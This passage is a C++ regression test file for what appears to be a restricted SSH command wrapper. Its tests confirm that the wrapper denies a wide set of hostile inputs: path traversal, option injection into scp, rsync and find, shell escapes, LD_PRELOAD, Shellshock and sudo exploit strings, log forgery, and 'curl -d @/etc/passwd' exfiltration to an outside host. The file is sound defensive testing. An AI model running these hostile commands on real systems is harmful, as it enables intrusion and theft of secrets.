        EXPECT_EQ(line.find(canary_file_), std::string::npos) << line;
        EXPECT_EQ(line.rfind("POSIXLY_CORRECT", 0), std::string::npos) << line;
    }
}

TEST_F(PeersRegression, C34_DotDotTraversal) {
    const auto p = std_policy();
    EXPECT_ALL_DENIED(p,
                      (std::vector<std::string>{
                          "cat " + pub_ + "/../secret/canary.txt", "cat " + pub_ + "/sub/../../secret/sub/deep.txt",
                          "cat /../../.." + canary_file_, "cat " + secret_ + "/../pub/readme.txt"}),
                      "path-denied");
}

// ---------------------------------------------------------------- D. option injection

TEST_F(PeersRegression, D35_DashPositionalAndEndOfOptions) {
    const auto p = std_policy();
    // `--help` is parsed as an option (quoted or not) and --help is not allowed.
    EXPECT_ALL_DENIED(p, (std::vector<std::string>{"cat '--help'", "cat --help", "systemctl status --help"}),
                      "unknown-option");
    // After `--` it is a positional, and positionals never start with '-'.
    EXPECT_ALL_DENIED(
        p, (std::vector<std::string>{"cat -- --help", "cat -- -", "cat -", "grep -- -e " + readme_, "grep x -- -r"}),
        "dash-positional");
    // The tool always gets `--` before the positionals.
    auto r = run_soc(p, "cat -n " + readme_);
    EXPECT_EQ(r.exit_code, 0) << r.err;
    const nlohmann::json want = {"/usr/bin/cat", "-n", "--", readme_};
    EXPECT_EQ(decisions().back()["process"]["args"], want);
}

TEST_F(PeersRegression, D36_ScpDashSProgram) {
    write(pub_ + "/evil.sh", "#!/bin/sh\ntouch " + pub_ + "/scp-ran\n", 0755);
    const auto p = std_policy();
    auto r = run_soc(p, "scp -S " + pub_ + "/evil.sh -f otherhost:/x");
    EXPECT_DENIED(r, "unknown-command");
    EXPECT_FALSE(fs::exists(pub_ + "/scp-ran"));
}

TEST_F(PeersRegression, D37_ScpConfigAndProviderOptions) {
    const auto p = std_policy();
    EXPECT_ALL_DENIED(p,
                      (std::vector<std::string>{"scp -oPKCS11Provider=" + pub_ + "/evil.so -f /x",
                                                "scp -F " + pub_ + "/ssh_config -f /x", "scp -t /tmp"}),
                      "unknown-command");
}

TEST_F(PeersRegression, D38_RsyncRshConfigDaemon) {
    const auto p = std_policy();
    EXPECT_ALL_DENIED(p,
                      (std::vector<std::string>{"rsync --server --daemon --config=" + pub_ + "/evil.conf .",
                                                "rsync -e " + pub_ + "/evil.sh host:x y",
                                                "rsync --rsh=" + pub_ + "/evil.sh host:x y"}),
                      "unknown-command");
}

TEST_F(PeersRegression, D39_ClusteredShortOptionsAreSplit) {
    const auto p = std_policy();
    const std::string out_file = pub_ + "/sort-out";
    EXPECT_ALL_DENIED(p,
                      (std::vector<std::string>{"grep -ciR CANARY " + pub_, "grep -cif " + canary_file_ + " " + readme_,
                                                "sort -ro " + out_file + " " + readme_,
                                                "sort -rno" + out_file + " " + readme_, "tail -fn1 " + readme_}),
                      "unknown-option");
    EXPECT_FALSE(fs::exists(out_file));
}

TEST_F(PeersRegression, D40_GetoptFormsOfValuesAreTyped) {
    const auto p = std_policy();
    EXPECT_ALL_DENIED(
        p,
        (std::vector<std::string>{"journalctl -oProxyCommand=/bin/sh", "journalctl --output=ProxyCommand=/bin/sh",
                                  "journalctl -o 'ProxyCommand /bin/sh'", "head -n5x " + readme_,
                                  "head '-n5 " + canary_file_ + "' " + readme_, "head --lines=5,/bin/sh " + readme_,
                                  "journalctl -u ../../etc/shadow"}),
        "bad-value");
    // A flag given a value is refused too.
    auto r = run_soc(p, "cat --number=" + canary_file_ + " " + readme_);
    EXPECT_DENIED(r, "option-value");
}

TEST_F(PeersRegression, D41_AbbreviatedLongOption) {
    const auto p = std_policy();
    for (const std::string& req : std::vector<std::string>{
             "journalctl --fil=" + canary_file_, "journalctl --file=" + canary_file_, "sort --files0=" + canary_file_,
             "journalctl --lin=5", "grep --coun x " + readme_, "grepf --fil=" + canary_file_ + " " + readme_}) {
        SCOPED_TRACE(req);
        const auto r = run_soc(p, req);
        EXPECT_DENIED(r, "unknown-option");
        EXPECT_NE(r.err.find("(options must be spelled in full)"), std::string::npos) << r.err;
    }
}

TEST_F(PeersRegression, D42_PoptAliasesAndHomeAreNotTheClients) {
    const auto p = std_policy();
    write(pub_ + "/.popt", "rsync alias --foo -e " + pub_ + "/evil.sh\n", 0644);
    const auto env = child_env(p, {"HOME=" + pub_, "POPT_CONFIG=" + pub_ + "/.popt"});
    EXPECT_EQ(env.count("HOME=/var/empty"), 1u);
    for (const auto& line : env) {
        EXPECT_EQ(line.find(pub_), std::string::npos) << line;
    }
}

TEST_F(PeersRegression, D43_DangerousServersAreUnknownCommands) {
    const auto p = std_policy();
    EXPECT_ALL_DENIED(p,
                      (std::vector<std::string>{"svnserve -t", "unison -server", "rsync --server -e.LsfxC . /",
                                                "git-upload-pack '/srv/x'", "cvs server"}),
                      "unknown-command");
}

TEST_F(PeersRegression, D45_ExecWrappersAreNeverCommands) {
    const auto p = std_policy();
    EXPECT_ALL_DENIED(
        p,
        (std::vector<std::string>{"env sudo id", "nohup sudo id", "timeout 5 sudo id", "nice -n 10 sudo id",
                                  "FOO=1 sudo id", "FOO=1 cat " + readme_, "xargs cat", "watch id", "stdbuf -o0 id",
                                  "setsid id", "command id", "exec id", "busybox sh", "sh -c id"}),
        "unknown-command");
}

// ---------------------------------------------------------------- E. tools that execute or write

TEST_F(PeersRegression, E46_FindExecPlus) {
    const auto p = std_policy();
    // Verbatim, `{}` is refused by the tokenizer; quoted, -exec is simply not an allowed option.
    auto r = run_soc(p, "find " + pub_ + " -maxdepth 0 -exec /bin/sh -c 'cat " + canary_file_ + "' {} +");
    EXPECT_DENIED(r, "parse-metachar");
    const std::string marker = pub_ + "/find-ran";
    EXPECT_ALL_DENIED(
        p,
        (std::vector<std::string>{"find " + pub_ + " -maxdepth 0 -exec /bin/sh -c 'cat " + canary_file_ + "' '{}' +",
                                  "find " + pub_ + " -exec touch " + marker + " \\;",
                                  "find " + pub_ + " -execdir touch " + marker + " '+'",
                                  "find " + pub_ + " -ok touch " + marker + " \\;", "find " + pub_ + " -okdir id \\;",
                                  "find " + pub_ + " -delete", "find " + pub_ + " -fprintf " + marker + " %p",
                                  "find " + pub_ + " -fls " + marker, "find " + pub_ + " -fprint " + marker,
                                  "find " + pub_ + " -fprint0 " + marker}),
        "unknown-option");
    EXPECT_FALSE(fs::exists(marker));
    EXPECT_TRUE(fs::exists(readme_));
    // The allowed form works and only lists names.
    r = run_soc(p, "find " + pub_ + " -name '*.txt' -type f");
    EXPECT_EQ(r.exit_code, 0) << r.err;
    EXPECT_NE(r.out.find(readme_ + "\n"), std::string::npos) << r.out;
    EXPECT_NE(r.out.find(pub_ + "/sub/note.txt\n"), std::string::npos) << r.out;
}

TEST_F(PeersRegression, E47_InterpreterEscapes) {
    const auto p = std_policy();
    EXPECT_ALL_DENIED(p,
                      (std::vector<std::string>{"awk 'BEGIN {system(\"/bin/sh\")}'", "vim", "less " + readme_,
                                                "man man", "python3 -c 'import os'"}),
                      "unknown-command");
    EXPECT_ALL_DENIED(p,
                      (std::vector<std::string>{"find ~ -name .lhistory -exec bash \\;",
                                                "cat " + readme_ + " && find . -name x -exec bash \\;"}),
                      "parse-metachar");
    auto r = run_soc(p, "find " + pub_ + " -name .lhistory -exec bash \\;");
    EXPECT_DENIED(r, "unknown-option");
}

TEST_F(PeersRegression, E48_PreloadFromTheClientNeverReachesTheChild) {
#if defined(__SANITIZE_THREAD__)
    // The wrapper is a static PIE (the loader ignores LD_*) everywhere but in sanitizer builds;
    // ThreadSanitizer's runtime cannot start at all with an LD_AUDIT module loaded beside it.
    GTEST_SKIP() << "the ThreadSanitizer runtime does not start under LD_AUDIT";
#endif
    const auto p = std_policy();
    for (const auto& line :
         child_env(p, {"LD_PRELOAD=" + pub_ + "/noexec.so", "LD_LIBRARY_PATH=" + pub_, "LD_AUDIT=" + pub_ + "/a.so"})) {
        EXPECT_EQ(line.rfind("LD_", 0), std::string::npos) << line;
    }
}

TEST_F(PeersRegression, E48_ChildCannotStartAnotherProgram) {
    // find -exec, awk system(), a pager's !sh: whatever slips through the argument checks, the
    // child may not execve anything (seccomp, not LD_PRELOAD). The probe is sh running /usr/bin/true.
    const auto p = std_policy();
    auto r = run_soc(p, "execprobe");
    EXPECT_EQ(r.exit_code, 0) << r.err;
    EXPECT_EQ(r.out.rfind("exec-rc=", 0), 0u) << r.out;  // sh itself ran
    EXPECT_NE(r.out, "exec-rc=0\n") << "the child started /usr/bin/true";
}

TEST_F(PeersRegression, E49_PagersAreDisabled) {
    const auto p = std_policy();
    // --no-pager is fixed for systemd tools (explain: nothing runs).
    for (const char* req : {"systemctl status ssh.service", "journalctl -u ssh.service -n 5"}) {
        SCOPED_TRACE(req);
        const auto r = run_args({"--policy", p, "--explain", "--", req});
        EXPECT_EQ(r.exit_code, 0) << r.err << r.out;
        EXPECT_NE(r.out.find(" --no-pager"), std::string::npos) << r.out;
    }
    // A pager named by the client is never used; a pager started anyway would be cat.
    const auto env = child_env(p, {"PAGER=/bin/sh", "SYSTEMD_PAGER=/bin/sh", "MANPAGER=/bin/sh", "LESSOPEN=|/bin/sh %s",
                                   "LESS=+!sh", "SYSTEMD_LESS=+!sh", "GIT_PAGER=/bin/sh"});
    EXPECT_EQ(env.count("PAGER=cat"), 1u);
    EXPECT_EQ(env.count("SYSTEMD_PAGER="), 1u);
    EXPECT_EQ(env.count("MANPAGER=cat"), 1u);
    EXPECT_EQ(env.count("LESSSECURE=1"), 1u);
    for (const auto& line : env) {
        EXPECT_EQ(line.find("/bin/sh"), std::string::npos) << line;
        EXPECT_EQ(line.find("!sh"), std::string::npos) << line;
    }
    // `--pager` is no option of ours.
    auto r = run_soc(p, "journalctl --pager-end");
    EXPECT_DENIED(r, "unknown-option");
}

TEST_F(PeersRegression, E50_SystemdFlagsThatWidenReach) {
    const auto p = std_policy();
    EXPECT_ALL_DENIED(
        p,
        (std::vector<std::string>{"journalctl --file=" + canary_file_, "journalctl --file " + canary_file_,
                                  "journalctl -D " + secret_, "journalctl --directory=" + secret_,
                                  "journalctl --root=/", "journalctl --image=" + pub_ + "/x.img", "journalctl -M other",
                                  "journalctl -m", "systemctl status -H root@192.0.2.1 ssh",
                                  "systemctl status -M other ssh", "systemctl status --host=root@192.0.2.1 ssh"}),
        "unknown-option");
    EXPECT_ALL_DENIED(
        p,
        (std::vector<std::string>{"systemctl start ssh", "systemctl restart ssh", "systemctl edit ssh",
                                  "systemctl kill ssh", "systemctl -H root@192.0.2.1 status ssh", "systemctl"}),
        "unknown-subcommand");
    auto r = run_args({"--policy", p, "--explain", "--", "journalctl -u ssh.service -n 5 --since=-1h -o cat"});
    EXPECT_EQ(r.exit_code, 0) << r.out;
    EXPECT_NE(r.out.find("decision: allow\n"), std::string::npos) << r.out;
}

TEST_F(PeersRegression, E51_NetworkToolsAreUnknownCommands) {
    const auto p = std_policy();
    EXPECT_ALL_DENIED(
        p,
        (std::vector<std::string>{
            "curl -d @/etc/passwd http://192.0.2.1/", "curl http://169.254.169.254/latest/meta-data/",
            "curl -o " + pub_ + "/x http://192.0.2.1/", "wget -O " + pub_ + "/x http://192.0.2.1/", "nc 192.0.2.1 80"}),
        "unknown-command");
}

// ---------------------------------------------------------------- F. channels the wrapper does not parse

TEST_F(PeersRegression, F53_ClientStdinNeverReachesTheTool) {
    // Arguments sent over the session channel (rsync -s, merge files, protocol data) cannot be
    // checked, so the tool's stdin is /dev/null.
    write(pub_ + "/stdin.txt", "PROTOCOL-DATA " + canary_file_ + "\n", 0644);
    const auto p = std_policy();
    auto r = run_soc_with_stdin(p, "stdinprobe", pub_ + "/stdin.txt");
    EXPECT_EQ(r.exit_code, 0) << r.err;
    EXPECT_EQ(r.out, "");
}

TEST_F(PeersRegression, F54_TimezoneFromTheClientIsReset) {
    const auto p = std_policy();
    const auto env =
        child_env(p, {"TZ=" + canary_file_, "TZDIR=" + secret_, "LOCPATH=" + secret_, "NLSPATH=" + secret_ + "/%N"});
    EXPECT_EQ(env.count("TZ=UTC"), 1u);
    for (const auto& line : env) {
        EXPECT_EQ(line.find(secret_), std::string::npos) << line;
    }
    auto r = run_soc(p, "TZ=" + canary_file_ + " cat " + readme_);
    EXPECT_DENIED(r, "unknown-command");
}

TEST_F(PeersRegression, F56_ToolConfigurationFromTheClientIsIgnored) {
    const auto p = std_policy();
    const auto env =
        child_env(p, {"GREP_OPTIONS=-f " + canary_file_, "PS_FORMAT=%x", "GIT_CONFIG_GLOBAL=" + pub_ + "/gitconfig",
                      "GIT_CONFIG_PARAMETERS='core.pager=sh'", "XDG_CONFIG_HOME=" + pub_, "HOME=" + pub_});
    EXPECT_EQ(env.count("HOME=/var/empty"), 1u);
    for (const auto& line : env) {
        for (const char* banned : {"GREP_OPTIONS", "PS_FORMAT", "GIT_", "XDG_"}) {
            EXPECT_EQ(line.rfind(banned, 0), std::string::npos) << line;
        }
    }
    // And grep really runs without them.
    auto r = run_soc(p, "grep -c public " + readme_, {"GREP_OPTIONS=-f " + canary_file_});
    EXPECT_EQ(r.exit_code, 0) << r.err;
    EXPECT_EQ(r.out, "1\n");
}

// ---------------------------------------------------------------- G. what the wrapper can show of the SSH layer

TEST_F(PeersRegression, G57_ShellshockStringRefusedAtParse) {
    const auto p = std_policy();
    EXPECT_ALL_DENIED(p, (std::vector<std::string>{"() { :;}; /bin/id", "() { :; }; cat " + canary_file_}),
                      "parse-metachar");
    // Through the login-shell path (-c) as well.
    auto r = run_args({"--policy", p, "-c", "() { :;}; /bin/id"});
    EXPECT_DENIED(r, "parse-metachar");
}

TEST_F(PeersRegression, G60_SubsystemRequestsAreRefused) {
    const auto p = std_policy();
    EXPECT_ALL_DENIED(p,
                      (std::vector<std::string>{"/usr/lib/openssh/sftp-server", "internal-sftp", "sftp-server",
                                                "/usr/lib/sftp-server -R"}),
                      "unknown-command");
}

TEST_F(PeersRegression, G63_ClientSuppliedEnvironmentIsReplaced) {
    const auto p = std_policy();
    const std::vector<std::string> client = {"LANG=evil",
                                             "LC_ALL=evil",
                                             "LC_CTYPE=evil",
                                             "LC_MESSAGES=evil",
                                             "TERM=evil",
                                             "SSH_USER_AUTH=" + pub_ + "/auth",
                                             "SSH_AUTH_SOCK=" + pub_ + "/agent",
                                             "IFS=/",
                                             "PYTHONPATH=" + pub_,
                                             "PERL5OPT=-d"};
    const auto env = child_env(p, client);
    for (const auto& line : env) {
        EXPECT_EQ(line.find("evil"), std::string::npos) << line;
        EXPECT_EQ(line.find(pub_), std::string::npos) << line;
        for (const char* banned : {"SSH_", "IFS=", "PYTHON", "PERL"}) {
            EXPECT_EQ(line.rfind(banned, 0), std::string::npos) << line;
        }
    }
    EXPECT_EQ(env.count("LANG=C.UTF-8"), 1u);
    EXPECT_EQ(env.count("LC_ALL=C.UTF-8"), 1u);
    EXPECT_EQ(env.count("TERM=dumb"), 1u);
    EXPECT_EQ(env.count("PATH=/usr/bin:/bin:/usr/sbin:/sbin"), 1u);
}

TEST_F(PeersRegression, G64_EmptyRequestPrintsTheListingNeverAShell) {
    const auto p = std_policy();
    auto check_listing = [&](const RunResult& r) {
        EXPECT_EQ(r.exit_code, 0) << r.err;
        EXPECT_EQ(r.err, "");
        const auto lines = lines_of(r.out);
        ASSERT_FALSE(lines.empty());
        EXPECT_EQ(lines[0].rfind("cat\tcat ", 0), 0u) << r.out;
        for (const auto& l : lines) {
            EXPECT_EQ(std::count(l.begin(), l.end(), '\t'), 2) << l;
        }
    };
    for (const char* req : {"", "   "}) {
        SCOPED_TRACE(std::string("'") + req + "'");
        check_listing(run_soc(p, req));
    }
    // No SSH_ORIGINAL_COMMAND (ssh -t, interactive login): -c absent or empty.
    check_listing(run_args({"--policy", p}));
    check_listing(run_args({"--policy", p, "-c", ""}));
    // Whatever arrives on stdin is not read as commands.
    write(pub_ + "/typed.txt", "cat " + canary_file_ + "\nid\n", 0644);
    check_listing(run_soc_with_stdin(p, "", pub_ + "/typed.txt"));
    for (const auto& rec : audit_records()) {
        EXPECT_EQ(rec["diag"]["rule"], "help");
    }
}

// ---------------------------------------------------------------- H. sudo request forms

TEST_F(PeersRegression, H66_SudoUidMinusOne) {
    const auto p = std_policy();
    auto r = run_soc(p, "sudo -u#-1 /usr/bin/id");
    EXPECT_DENIED(r, "parse-metachar");  // '#' is refused outside quotes
    r = run_soc(p, "sudo '-u#-1' /usr/bin/id");
    EXPECT_DENIED(r, "unknown-command");
}

TEST_F(PeersRegression, H67_RelativeSudoedit) {
    const auto p = std_policy();
    EXPECT_ALL_DENIED(p, (std::vector<std::string>{"./sudoedit /etc/motd", "sudoedit /etc/motd"}), "unknown-command");
}

TEST_F(PeersRegression, H68_BaronSameditForms) {
    const auto p = std_policy();
    auto r = run_soc(p, "sudoedit -s '\\' $(perl -e 'print \"A\"x65536')");
    EXPECT_DENIED(r, "parse-metachar");
    r = run_soc(p, "sudoedit -s '\\' " + std::string(65536, 'A'));
    EXPECT_DENIED(r, "parse-limit");
    r = run_soc(p, "cat " + readme_ + " \\");
    EXPECT_DENIED(r, "parse-quote");
}

TEST_F(PeersRegression, H69_SudoChrootAndHost) {
    const auto p = std_policy();
    EXPECT_ALL_DENIED(
        p, (std::vector<std::string>{"sudo -R " + pub_ + " id", "sudo -h otherhost id", "sudo --host=otherhost id"}),
        "unknown-command");
}

// ---------------------------------------------------------------- I. audit

TEST_F(PeersRegression, I70_LogForgeryNewline) {
    const auto p = std_policy();
    const std::string forged = "Nov 22 10:00:00 host sshd[1]: Accepted publickey for root";
    const std::vector<std::string> reqs = {
        "cat /var/log/x\n" + forged,         // 0 LF
        "cat /var/log/x\r" + forged,         // 1 CR
        "cat /var/log/x\r\n" + forged,       // 2 CRLF
        "cat /var/log/x\x1b[2K\r" + forged,  // 3 ESC: a terminal escape that erases the real line
        "cat /var/log/x\xc2\x85" + forged,   // 4 NEL (C1, U+0085)
        "cat /var/log/x\xc2\x9b"
        "2K" +
            forged,                             // 5 CSI (C1, U+009B)
        "cat /var/log/x\x7f" + forged,          // 6 DEL
        "cat /var/log/x\xe2\x80\xa8" + forged,  // 7 LINE SEPARATOR: not a control; refused for its shape
        "cat /var/log/x\xff\n" + forged,        // 8 invalid UTF-8 as well
    };
    std::vector<std::string> ids;
    for (const auto& req : reqs) {
        SCOPED_TRACE(visible(req));
        const auto r = run_soc(p, req);
        EXPECT_EQ(r.exit_code, 126) << r.err;
        EXPECT_EQ(std::count(r.err.begin(), r.err.end(), '\n'), 1) << r.err;
        EXPECT_EQ(r.err.find(forged), std::string::npos) << r.err;  // never echoed back
        EXPECT_EQ(r.err.find('\x1b'), std::string::npos) << r.err;
        EXPECT_EQ(r.out, "");
        const size_t at = r.err.find("(request ");
        ASSERT_NE(at, std::string::npos) << r.err;
        ids.push_back(r.err.substr(at + 9, 36));
    }
    // One allowed request in between, so the file holds both kinds of record.
    auto ok = run_soc(p, "cat " + readme_);
    EXPECT_EQ(ok.exit_code, 0) << ok.err;

    std::ifstream in(audit_, std::ios::binary);
    const std::string raw((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
    ASSERT_FALSE(raw.empty());
    EXPECT_EQ(raw.back(), '\n');
    const auto lines = lines_of(raw);
    // Exactly one record line per refused request.
    for (size_t i = 0; i < ids.size(); ++i) {
        EXPECT_EQ(std::count_if(lines.begin(), lines.end(),
                                [&](const std::string& l) { return l.find(ids[i]) != std::string::npos; }),
                  1)
            << "request " << i << " id " << ids[i];
    }
    for (const auto& line : lines) {
        EXPECT_EQ(line.rfind("Nov 22", 0), std::string::npos) << line;  // the forged line is never a line
        // Bytes a terminal or a line-based reader acts on are escaped in the record (\u00XX), not
        // written raw: C0 (JSON does this), DEL and the C1 controls (CVE-2023-28486 class).
        for (const std::string& bad : {std::string("\r"), std::string("\x1b"), std::string("\x7f"),
                                       std::string("\xc2\x85"), std::string("\xc2\x9b")}) {
            EXPECT_EQ(line.find(bad), std::string::npos)
                << "raw byte " << visible(bad) << " in audit line: " << visible(line);
        }
        EXPECT_TRUE(nlohmann::json::accept(line)) << visible(line);
    }
    std::vector<nlohmann::json> recs;
    ASSERT_NO_THROW(recs = decisions());
    ASSERT_EQ(recs.size(), reqs.size() + 1);
    for (size_t i = 0; i < reqs.size(); ++i) {
        SCOPED_TRACE(i);
        EXPECT_EQ(recs[i]["diag"]["request_id"], ids[i]);
        EXPECT_EQ(recs[i]["diag"]["decision"], "deny");
        // Logged escaped, and recoverable exactly: as text when valid UTF-8, else as base64.
        if (recs[i]["process"].contains("command_line_b64")) {
            EXPECT_EQ(recs[i]["process"]["command_line_b64"], base64(reqs[i]));
        } else {
            EXPECT_EQ(recs[i]["process"]["command_line"], reqs[i]);
        }
    }
    for (size_t i = 0; i <= 6; ++i) {
        EXPECT_EQ(recs[i]["diag"]["reason"], "parse-control") << i;
    }
    // LINE SEPARATOR is no control character: the forged line's '[' is a glob word now, and the
    // request is refused for its shape (the decision is checked above), never run.
    EXPECT_NE(recs[7]["diag"]["reason"], "allowed");
    EXPECT_EQ(recs[8]["diag"]["reason"], "parse-utf8");
    EXPECT_EQ(recs[8]["process"]["command_line_b64"], base64(reqs[8]));
    EXPECT_EQ(recs.back()["diag"]["decision"], "allow");
}

TEST_F(PeersRegression, I71_DecisionRecordWrittenBeforeExec) {
    const auto p = std_policy();
    symlink_or_fail(readme_, pub_ + "/readmelink");
    auto r = run_soc(p, "head -n 1 " + pub_ + "/readmelink");
    EXPECT_EQ(r.exit_code, 0) << r.err;
    const auto all = audit_records();
    ASSERT_FALSE(all.empty());
    EXPECT_EQ(all[0]["event"]["action"], "decision");  // first in the file: written before the run
    const auto recs = decisions();
    ASSERT_EQ(recs.size(), 1u);
    const auto& rec = recs[0];
    EXPECT_EQ(rec["process"]["command_line"], "head -n 1 " + pub_ + "/readmelink");  // what OpenSSH never logs
    EXPECT_EQ(rec["diag"]["rule"], "head");
    EXPECT_EQ(rec["diag"]["decision"], "allow");
    EXPECT_EQ(rec["diag"]["paths"][0]["resolved"], readme_);
    EXPECT_EQ(rec["diag"]["policy"]["sha256"].get<std::string>().size(), 64u);
    EXPECT_EQ(rec["source"]["ip"], "192.0.2.7");
}

TEST_F(PeersRegression, I72_LongRequestLoggedWholeAndCompletionRecorded) {
    const auto p = std_policy();
    std::string req = "grep '" + std::string(3000, 'z') + "'";
    for (int i = 0; i < 8; ++i) {
        req += " " + readme_;
    }
    ASSERT_GT(req.size(), 3000u);
    auto r = run_soc(p, req);
    EXPECT_EQ(r.exit_code, 1) << r.err;  // no match, but it ran
    const auto recs = decisions();
    ASSERT_EQ(recs.size(), 1u);
    EXPECT_EQ(recs[0]["process"]["command_line"], req);  // not truncated (sshdo: ~300 bytes)
    EXPECT_EQ(recs[0]["process"]["args"].size(), 11u);
    // The completion record: exit status and output size (lshell's JSON has neither).
    const auto ends = end_records();
    ASSERT_EQ(ends.size(), 1u);
    EXPECT_EQ(ends[0]["diag"]["request_id"], recs[0]["diag"]["request_id"]);
    EXPECT_EQ(ends[0]["diag"]["result"]["exit_status"], 1) << ends[0].dump();
    EXPECT_EQ(ends[0]["diag"]["result"]["stdout"]["bytes"], 0) << ends[0].dump();
}

// ---------------------------------------------------------------- J. resource exhaustion

TEST_F(PeersRegression, J73_UnboundedForms) {
    ASSERT_EQ(::mkfifo((pub_ + "/fifo").c_str(), 0644), 0) << std::strerror(errno);
    const auto p = std_policy();
    EXPECT_ALL_DENIED(p,
                      (std::vector<std::string>{"journalctl -f", "journalctl --follow", "tail -f " + readme_,
                                                "tail --follow " + readme_, "tail -F " + readme_, "ls -R /"}),
                      "unknown-option");
    EXPECT_ALL_DENIED(p,
                      (std::vector<std::string>{"cat /dev/zero", "cat /dev/urandom", "head -c 10 /dev/zero",
                                                "grep x /dev/null", "cat " + pub_ + "/fifo"}),
                      "path-type");
    EXPECT_ALL_DENIED(p, (std::vector<std::string>{"find /", "grep -r x /"}), "path-tree-denied");
}

TEST_F(PeersRegression, J73_TimeoutKillsTheCommand) {
    const auto p = std_policy(R"TOML(
[command.sleeper]
match = ["sleeper"]
program = "sleep"
description = "Sleeps past its timeout (test only)"
fixed = ["2"]
timeout = "200ms"
)TOML");
    const auto t0 = std::chrono::steady_clock::now();
    auto r = run_soc(p, "sleeper");
    const auto ms =
        std::chrono::duration_cast<std::chrono::milliseconds>(std::chrono::steady_clock::now() - t0).count();
    EXPECT_LT(ms, 20000) << "timeout = 200ms was not enforced";
    EXPECT_NE(r.exit_code, 0);
}

TEST_F(PeersRegression, J73_OutputCapIsEnforced) {
    const auto p = std_policy(R"TOML(
[command.zeros]
match = ["zeros"]
program = "head"
description = "Writes past its output cap (test only)"
fixed = ["-c", "65536", "/dev/zero"]
output_cap = "1KiB"
)TOML");
    auto r = run_soc(p, "zeros");
    EXPECT_LE(r.out.size(), 1024u) << "output_cap = 1KiB was not enforced";
}

}  // namespace
}  // namespace diag::testing
